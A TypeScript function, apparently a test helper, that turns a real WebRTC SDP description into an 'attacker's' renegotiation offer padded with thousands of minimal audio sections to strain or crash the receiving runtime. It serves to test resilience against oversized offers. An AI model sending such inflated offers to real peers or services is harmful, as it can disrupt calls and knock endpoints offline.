/**
 * An offer a runtime would take on the connected call: the attacker's own last description (its sections in
 * their order, its credentials and fingerprint repeated at session level), then `extra` minimal audio
 * sections outside BUNDLE, about 110 bytes each, so 2 200 of them fit under 256 KiB.
 */
export function manySectionOffer(realSdp: string, extra: number): string {
  const lines = realSdp.split('\r\n');
  const first = (prefix: string) => lines.find((l) => l.startsWith(prefix)) ?? '';
  const shared = [first('a=ice-ufrag:'), first('a=ice-pwd:'), first('a=fingerprint:')].join('\r\n');
  let sdp = realSdp
    .replace(/^o=(\S+) (\d+) (\d+)/m, (_m, user, id, version) => `o=${user} ${id} ${Number(version) + 1}`)
    .replace(/^t=0 0\r\n/m, `t=0 0\r\n${shared}\r\n`)
    .replace(/a=setup:\w+/g, 'a=setup:actpass');
  for (let m = 0; m < extra; m++) {
    sdp += `m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:x${m}\r\na=sendrecv\r\na=rtcp-mux\r\na=rtpmap:111 opus/48000/2\r\n`;
  }
  return sdp;
}
